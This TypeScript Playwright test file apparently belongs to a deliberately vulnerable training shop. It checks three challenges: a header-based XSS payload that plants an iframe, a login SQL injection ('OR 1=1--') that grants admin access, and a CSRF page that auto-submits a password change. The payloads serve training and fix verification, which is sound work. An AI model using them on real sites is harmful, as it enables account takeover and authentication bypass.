import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { APIRequestContext, Page } from '@playwright/test';
import { expect, open, test } from '../support/training';
import { expectNotSolved, expectSolved } from '../support/challenges';
import { exploitInBrowser, hasFix } from '../support/hardened';
import { openAccountMenu } from '../support/account';
import type { OwnShop } from '../support/own-shop';

/**
 * The identity challenges where the browser matters (the rest are solved by the server
 * tests in server/test/challenges/identity.test.ts). Each journey runs on a shop of its own,
 * so "not solved yet" does not depend on what other journeys did.
 */
const PAYLOAD = '<iframe src="javascript:alert(`xss`)">';

async function registerCustomer(request: APIRequestContext, shop: OwnShop) {
  const account = { email: `trainee.${Date.now().toString(36)}@e2e.pulp`, password: 'Juicy#24' };
  const response = await request.post(`${shop.url}/api/Users`, {
    data: { ...account, passwordRepeat: account.password, securityQuestion: { id: 2 }, securityAnswer: 'Clementine' },
  });
  expect(response.status()).toBe(201);
  return account;
}

async function logIn(page: Page, shop: OwnShop, email: string, password: string): Promise<void> {
  await open(page, shop, '/login');
  await page.locator('#email').fill(email);
  await page.locator('#password').fill(password);
  await page.locator('#loginButton').click();
  await expect(page).toHaveURL(/#\/search$/);
}

async function logOut(page: Page): Promise<void> {
  const menu = await openAccountMenu(page);
  await menu.locator('#navbarLogoutButton').click();
  await expect(page.locator('#navbarLogoutButton')).toBeHidden();
}

test.describe('HTTP-Header XSS', () => {
  test('an honest logout shows the real address; a True-Client-IP header plants the iframe that the last-login-IP page runs', async ({ page, request, shop, hardened }, testInfo) => {
    const fixed = hardened && hasFix('httpHeaderXssChallenge');
    const account = await registerCustomer(request, shop);

    // Honest use: log in, log out (the shop records the address), log in again and look.
    await logIn(page, shop, account.email, account.password);
    await logOut(page);
    await logIn(page, shop, account.email, account.password);
    await open(page, shop, '/privacy-security/last-login-ip');
    await expect(page.locator('#last-login-ip')).toHaveText('127.0.0.1');
    await expectNotSolved(request, shop.url, 'httpHeaderXssChallenge');

    // The trainee's proxy adds the header to every request, the logout's included.
    await exploitInBrowser({ page, request, shop, hardened, project: testInfo.project.name, file: testInfo.file }, 'httpHeaderXssChallenge', async () => {
      await page.setExtraHTTPHeaders({ 'True-Client-IP': PAYLOAD });
      await logOut(page);
    });
    await page.setExtraHTTPHeaders({});

    await logIn(page, shop, account.email, account.password);
    // The alert blocks the page until it is answered: answer it as it comes.
    const alerts: string[] = [];
    page.on('dialog', (dialog) => {
      alerts.push(dialog.message());
      void dialog.dismiss();
    });
    await open(page, shop, '/privacy-security/last-login-ip');
    if (fixed) {
      // Hardened: the header was not believed; the page shows the connection's address and nothing runs.
      await expect(page.locator('#last-login-ip')).toHaveText('127.0.0.1');
      await expect(page.locator('#last-login-ip iframe')).toHaveCount(0);
      expect(alerts).toEqual([]);
      return;
    }
    await expect(page.locator('#last-login-ip iframe')).toHaveCount(1);
    await expect.poll(() => alerts).toEqual(['xss']);
    await page.screenshot({ path: test.info().outputPath('last-login-ip-xss.png') });
  });
});

test.describe('Admin Section and Login Admin', () => {
  test('a customer is turned away from the administration; the login injection lets a trainee in as admin', async ({ page, request, shop, hardened }, testInfo) => {
    const account = await registerCustomer(request, shop);
    await logIn(page, shop, account.email, account.password);
    await open(page, shop, '/administration');
    await expect(page.getByRole('heading', { name: '403' })).toBeVisible();
    await expectNotSolved(request, shop.url, 'adminSectionChallenge');
    await expectNotSolved(request, shop.url, 'loginAdminChallenge');
    await logOut(page);

    // A quote ends the email's string in the login's SQL; the rest of the condition is commented out.
    await exploitInBrowser({ page, request, shop, hardened, project: testInfo.project.name, file: testInfo.file }, 'loginAdminChallenge', async () => {
      await logIn(page, shop, "' OR 1=1--", 'whatever');
    });
    // Where the injection is fixed (hardened), the trainer logs in with the administrator's password.
    if (hardened && hasFix('loginAdminChallenge')) await logIn(page, shop, 'admin@pulp.shop', shop.adminPassword());
    await expect.poll(() => page.evaluate(() => JSON.parse(atob((localStorage.getItem('token') ?? '..').split('.')[1])).data.email)).toBe('admin@pulp.shop');
    await open(page, shop, '/administration');
    await expect(page.locator('.administration')).toBeVisible();
    await expect(page.locator('.administration')).toContainText('admin@pulp.shop');
    await expectSolved(request, shop.url, 'adminSectionChallenge');
    if (!(hardened && hasFix('loginAdminChallenge'))) await expectNotSolved(request, shop.url, 'weakPasswordChallenge');
  });
});

/**
 * Another website: a page on another loopback address (another site to the browser) that
 * sends its visitor to the shop's change-password URL as soon as it opens.
 */
async function attackerSite(shop: OwnShop, newPassword: string): Promise<{ url: string; close: () => Promise<void> }> {
  const page = `<!doctype html><title>Cute kittens</title><h1>Loading kittens…</h1>
<form action="${shop.url}/rest/user/change-password" method="GET">
<input type="hidden" name="new" value="${newPassword}"><input type="hidden" name="repeat" value="${newPassword}">
</form><script>document.forms[0].submit()</script>`;
  const server = http.createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.2:${port}/kittens.html`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

test.describe('CSRF', () => {
  test("the shop's own change-password screen solves nothing; a page on another site changes the victim's password with the cookie alone", async ({ page, request, shop, hardened }, testInfo) => {
    const victim = await registerCustomer(request, shop);
    await logIn(page, shop, victim.email, victim.password);

    // Honest use: the victim changes the password on the shop's own screen.
    await open(page, shop, '/privacy-security/change-password');
    await page.locator('#currentPassword').fill(victim.password);
    await page.locator('#newPassword').fill('Own-Choice1');
    await page.locator('#newPasswordRepeat').fill('Own-Choice1');
    await page.locator('#changeButton').click();
    await expect(page.locator('.confirmation').filter({ hasText: 'Your password was successfully changed.' })).toBeVisible();
    await expectNotSolved(request, shop.url, 'csrfChallenge');

    // The victim, still logged in, opens a link to another site.
    const site = await attackerSite(shop, 'Kitten-Owned1');
    try {
      await exploitInBrowser({ page, request, shop, hardened, project: testInfo.project.name, file: testInfo.file }, 'csrfChallenge', async () => {
        await page.goto(site.url);
        await expect(page.locator('body')).toContainText('"email"');
      });
    } finally {
      await site.close();
    }
    // Where the fix runs (hardened), the cookie identifies nobody here: the victim keeps the own choice.
    const fixed = hardened && hasFix('csrfChallenge');
    const login = (password: string) => request.post(`${shop.url}/rest/user/login`, { data: { email: victim.email, password } });
    expect((await login('Kitten-Owned1')).status()).toBe(fixed ? 401 : 200);
    if (fixed) expect((await login('Own-Choice1')).status()).toBe(200);
  });
});
